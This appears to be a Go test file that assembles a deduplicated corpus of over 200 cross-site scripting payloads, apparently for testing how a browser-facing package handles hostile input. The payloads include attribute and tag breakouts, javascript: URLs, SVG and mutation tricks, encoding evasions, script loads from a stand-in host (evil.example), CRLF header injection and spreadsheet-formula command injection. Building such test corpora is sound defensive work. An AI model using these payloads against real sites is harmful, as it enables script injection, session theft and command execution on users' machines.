package browser

import (
	"fmt"
	"strings"
	"testing"
)

// canary is what every payload tries to run: a page in which it ran has window.pwned.
const canary = "pwned=1"

// escapes end what a careless page might have put text into: an attribute, an element, a
// comment, a script, a style, a title.
var escapes = []string{"", `">`, `'>`, `-->`, `</script>`, `</title>`, `</textarea></style>`, `]]>`, `"}]</script>`, "</svg></math>"}

// cores run the canary once they are elements.
var cores = []string{
	`<script>§</script>`, `<img src=x onerror=§>`, `<svg onload=§>`, `<svg><script>§</script></svg>`, `<details open ontoggle=§>`,
	`<input autofocus onfocus=§>`, `<iframe srcdoc="&lt;script&gt;parent.§&lt;/script&gt;"></iframe>`, `<video><source onerror=§></video>`,
	`<body onload=§>`, `<a href="javascript:§" id=q autofocus>go</a>`,
}

// alone are payloads that need no escape or have one of their own, by family.
var alone = map[string][]string{
	"tags": {
		`<ScRiPt>§</sCrIpT>`, `<script/x>§</script>`, `<script src="data:,§"></script>`, `<script
>§</script>`, `<<script>§//<</script>`, `<scr<script>ipt>§</scr</script>ipt>`, `<object data="javascript:§">`, `<embed src="javascript:§">`,
		`<marquee onstart=§>`, `<audio src=x onerror=§>`, `<table background="javascript:§">`, `<meta http-equiv=refresh content="0;javascript:§">`,
		`<base href="javascript:§//">`, `<link rel=stylesheet href="data:,*{color:red}">`, `<form action="javascript:§"><button>x`, `<isindex action="javascript:§" type=submit>`,
		`<dialog open onclose=§>`, `<template><img src=x onerror=§></template>`, `<noscript><img src=x onerror=§></noscript>`, `<xmp><img src=x onerror=§></xmp>`,
	},
	"attributes": {
		`" onmouseover=§ x="`, `' onfocus=§ autofocus x='`, ` onclick=§ `, `" autofocus onfocus="§`, `"/onload=§ x="`, `" style="animation-name:x" onanimationstart="§`,
		`x" href="javascript:§`, `" srcdoc="<script>§</script>`, `" formaction="javascript:§`, "` onerror=§ `", `" accesskey=x onclick=§ "`, `" popover ontoggle=§ "`,
		`&quot; onload=§ &quot;`, `&#34; onload=§`, `\" onload=§`, `%22 onload=§`,
	},
	"addresses": {
		`javascript:§`, `JaVaScRiPt:§`, "java\tscript:§", "java\nscript:§", "\x01javascript:§", ` javascript:§`, `javascript&colon;§`, `&#106;avascript:§`,
		`data:text/html,<script>§</script>`, `vbscript:§`, `view-source:javascript:§`, `blob:null/§`, `//evil.example/x.js`, `http://evil.example/"onload=§`,
		`https://evil.example/<script>§</script>`, `feed:javascript:§`, `javascript://evil.example/%0a§`, `http://javascript:§@evil.example/`,
	},
	"svg": {
		`<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=§ attributeName=x>`, `<svg><set attributeName=href to="javascript:§">`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=§></svg>#x">`, `<svg><foreignObject><body onload=§>`, `<svg><title><img src=x onerror=§></title></svg>`,
		`<math><mtext><img src=x onerror=§></mtext></math>`, `<math href="javascript:§">x</math>`, `<svg><style><img src=x onerror=§></style></svg>`,
	},
	"templates": {
		`{{constructor.constructor("§")()}}`, `{{.}}{{define "page"}}<script>§</script>{{end}}`, `${§}`, `<%= § %>`, `{% § %}`, `#{§}`, `[[§]]`,
		`{{template "page" .}}`, `{{print "<script>§</script>" | html}}`, `hx-on:load="§"`, `" hx-on::load="§" "`, `" hx-get="/x" hx-trigger="load" "`, `<div data-island="timeline" hx-vals='js:{x:§}'>`,
	},
	"css": {
		`</style><img src=x onerror=§>`, `x{background:url(javascript:§)}`, `expression(§)`, `" style="background:url(javascript:§)`, `@import "data:,*{}";`,
		`-moz-binding:url(data:,§)`, `<style>*{display:none}</style>`, `<p style="position:fixed;inset:0">§</p>`,
	},
	"unicode": {
		"\ufeff<script>§</script>", "＜script＞§＜/script＞", "<\u200bscript>§</script>", "\u202e<script>§</script>", "<scr\u00adipt>§</script>", "\u2028§\u2029",
		"ſcript:§", "<ſcript>§</ſcript>", "&lt;script&gt;§&lt;/script&gt;", "&#x3c;script&#x3e;§", `\u003cscript\u003e§`, `\x3cscript\x3e§`, "+ADw-script+AD4-§", "<img src=x onerror=\u0028§)>",
		"%3Cscript%3E§%3C/script%3E", "%253Cscript%253E§", "<a\u2028onclick=§>", "\x7f<script>§</script>\x1b[31m", "<script\u0000>§</script>", "\xff\xfe<script>§</script>",
	},
	"mutation": {
		`<noscript><p title="</noscript><img src=x onerror=§>">`, `<p id="<img src=x onerror=§>">`, `<listing><img src=x onerror=§></listing>`, "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
		`<a id=x><a id=x name=y href="javascript:§">`, `<form id=forbidden><input name=attributes></form>`, `<img name=body><img name=cookie>`, `<table><td><svg><desc><td></desc><img src=x onerror=§>`,
		"<!--><script>§</script>-->", "<![CDATA[<script>§</script>]]>", "<?xml version=1.0?><x onclick=§/>", "<!DOCTYPE x [<!ENTITY y '§'>]>",
	},
	"json": {
		`"};§;//`, `</script ><script>§</script >`, `"}]}</script><img src=x onerror=§>`, `{"a":"</script><!--<script>§"}`, `[{"x":"\u003c/script\u003e"}]§`, `';§;'`, "`;§;`", `\"};§;//`, `{"__proto__":{"pwned":1}}`, `'+§+'`, `\u2028§`, `<!--<script>§`, `]}'§`, `","onload":"§`, "*/§/*",
	},
	"headers": {
		"x\r\nContent-Type: text/html\r\n\r\n<script>§</script>", "x\nSet-Cookie: §", `"; filename="§.html`, "x%0d%0aX-§: 1", `x; charset=utf-7 §`, `=cmd|'§'!A1`, `@SUM(§)`, `+§`,
	},
}

// payloads are all of them. Each is another text.
func payloads() []string {
	var out []string
	for i, e := range escapes {
		for j, c := range cores {
			if i == 0 || (i+j)%2 == 0 || j < 2 {
				out = append(out, e+c)
			}
		}
	}
	for _, family := range []string{"tags", "attributes", "addresses", "svg", "templates", "css", "unicode", "mutation", "json", "headers"} {
		out = append(out, alone[family]...)
	}
	for i, s := range out {
		out[i] = strings.ReplaceAll(s, "§", canary)
	}
	return out
}

// token is a word that stands beside payload i wherever it is put, to find it again.
func token(i int) string { return fmt.Sprintf("Zaqor%cx%c", 'a'+i/20, 'a'+i%20) }

// TestPayloads holds that there are 200 of them at least, no two alike.
func TestPayloads(t *testing.T) {
	seen := map[string]bool{}
	for _, p := range payloads() {
		if seen[p] {
			t.Errorf("twice: %q", p)
		}
		seen[p] = true
	}
	if len(seen) < 200 {
		t.Errorf("%d payloads", len(seen))
	}
}
